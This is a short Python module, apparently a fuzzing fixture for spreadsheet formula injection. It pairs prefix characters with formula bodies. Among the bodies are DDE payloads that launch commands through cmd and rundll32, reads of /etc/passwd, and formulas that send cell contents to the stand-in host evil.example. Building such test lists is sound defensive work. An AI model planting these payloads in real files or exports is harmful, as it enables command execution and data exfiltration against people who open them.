"""A thousand ways in which words in a cell try to be reckoned."""

from itertools import product

BEGINS = (
    *("=", "+", "-", "@", "=+", "=-", "+=", "--", "==", "@=", "\t=", "\r=", " =", "'=", '"=', "＝", "＋", "－", "＠"),
    *("\u200b=", "|", "%"),
)
REST = r"""
1+1
A1
A1:A9
A1&B1
2^8
1%
-1
1*1
1/0
{1,2,3}
$A$1
Sheet1!A1
"a"&"b"
PI()
NA()
NOW()
ROW()
RAND()
TODAY()
TRUE()
INFO(1)
LEN(A1)
CHAR(65)
SQRT(4)
IF(1=1,1,0)
SUM(A1:A9)
REGISTER(1)
EXEC("calc")
INDIRECT("A"&1)
CELL("filename")
VLOOKUP(1,A:B,2)
_xlfn.CONCAT(A1)
cmd|'/C calc'!'A1'
2+5+cmd|'/C calc'!A0
cmd|' /C notepad'!'A1'
SUM(1,1)*cmd|'/c calc'!A0
DDE("cmd";"/C calc";"x")
MSEXCEL|"\..\..\calc"!x
rundll32|'URL.dll,OpenURL calc'!A
'file:///etc/passwd'#$passwd.A1
HYPERLINK("file:///etc/passwd")
HYPERLINK("http://evil.example?x="&A1,"click")
CALL("kernel32","WinExec","JCJ","calc",0)
WEBSERVICE("http://evil.example/"&A1)
IMPORTDATA("http://evil.example/")
IMAGE("http://evil.example/x.png")
IMPORTXML(CONCAT("http://evil.example?",A1),"//a")
""".strip().splitlines()
FORMULAS = [begin + rest for begin, rest in product(BEGINS, REST)]
